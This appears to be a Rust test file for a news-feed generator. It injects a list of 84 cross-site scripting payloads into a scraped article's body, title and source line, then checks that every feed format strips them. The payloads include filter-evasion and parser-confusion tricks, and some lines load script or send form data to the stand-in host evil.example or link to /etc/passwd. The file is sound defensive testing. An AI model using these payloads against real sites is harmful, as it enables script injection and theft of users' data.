//! Markup that would run, frame, ask, load or lead away: nothing of it is left in any feed, found by reading back what is
//! served.

use tidings::page::Page;
use tidings::render::Format;

use super::site::Play;
use super::{each, paper, stand};
use crate::nasty::{assert_inert, html_of};
use crate::portal;

/// Vectors, beside those of `nasty`.
const VECTORS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script\u{c}src=x></script>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script x=\">\">alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=`alert(1)`>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror\u{c}=alert(1)>",
    "<img src=x on\u{2028}error=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' a='>' onload=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset=\"javascript:alert(1) 1x\" src=x>",
    "<img src=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<p onmouseover=alert(1) style=\"position:fixed;width:9999px\">x</p>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=-moz-binding:url(//evil.example/x)>x</p>",
    "<div contenteditable onfocus=alert(1) autofocus tabindex=0>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"javascript&#0058;alert(1)\">x</a>",
    "<a href=\"ｊavascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:[code]\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:,x\">x</a>",
    "<a href=\"blob:http://a/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"view-source:javascript:1\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=x ping=//evil.example/ target=_blank download>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)/>#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<textarea><p title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><p title=\"</title><img src onerror=alert(1)>\"></title>",
    "<style><p title=\"</style><img src onerror=alert(1)>\"></style>",
    "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=//evil.example/></iframe><frameset onload=alert(1)><frame src=javascript:1>",
    "<object data=javascript:alert(1)><param name=movie value=x></object>",
    "<embed src=javascript:alert(1)><applet code=x></applet>",
    "<form action=//evil.example/><input name=pass><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "<input onfocus=alert(1) autofocus><select onfocus=alert(1) autofocus><option>x</select>",
    "<video poster=javascript:alert(1) onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)>x</slot>",
    "<dialog open onclose=alert(1)>x</dialog><portal src=javascript:1></portal><bgsound src=javascript:1>",
    "<base href=javascript:alert(1)//><link rel=import href=//evil.example/><meta http-equiv=refresh content=0;url=javascript:1>",
    "<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>--><![CDATA[><script>alert(1)</script>]]><?x ><script>alert(1)</script>?>",
    "<table><td background=javascript:alert(1)><tr onclick=alert(1)><caption onclick=alert(1)>x",
];

/// Words that run something when they are markup; as text they may stay.
fn assert_quiet(html: &str, about: &str) -> Result<(), String> {
    let page = Page::parse(html, tidings::model::PageUrl::parse("http://reader.example/").unwrap());
    for node in page.root().descendants() {
        for (name, value) in node.attrs() {
            let value = value.to_ascii_lowercase();
            let is_bad = name.starts_with("on")
                || ["javascript:", "vbscript:", "data:"].iter().any(|bad| value.contains(bad));
            if is_bad && !matches!(name, "alt" | "title") {
                return Err(format!("{about}: {name}={value} in {html:.300}"));
            }
        }
    }
    Ok(())
}

#[test]
fn no_vector_is_left_in_any_feed() {
    each(&VECTORS, |vector| {
        let site = paper(&[2, 3, 4]);
        // in the body, between its paragraphs, in the title, in what the list says
        let article = portal::article(1, &portal::title(1), vector)
            .replace("<div class=\"content\">", &format!("<div class=\"content\"><p>前言。</p>{vector}"))
            .replace("来源:青石日报", &format!("来源:{vector}"));
        site.put(&portal::path(1), Play::page(&article));
        let stand = stand(&site.url("/news/"));
        let visited = stand.visit();
        if visited.error.is_some() || visited.counts.new < 3 {
            return Err(format!("{vector}: {visited:?}"));
        }
        for format in Format::ALL {
            let about = format!("{} of {vector}", format.title());
            let bytes = stand.feed("paper", format);
            let html = if format == Format::Json {
                let feed: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
                let items = feed["items"].as_array().unwrap();
                items.iter().map(|item| item["content_html"].as_str().unwrap().to_owned()).collect()
            } else {
                html_of(std::str::from_utf8(&bytes).unwrap(), &about)
            };
            for html in html {
                assert_inert(&html, &about);
                assert_quiet(&html, &about)?;
            }
        }
        Ok(())
    });
}
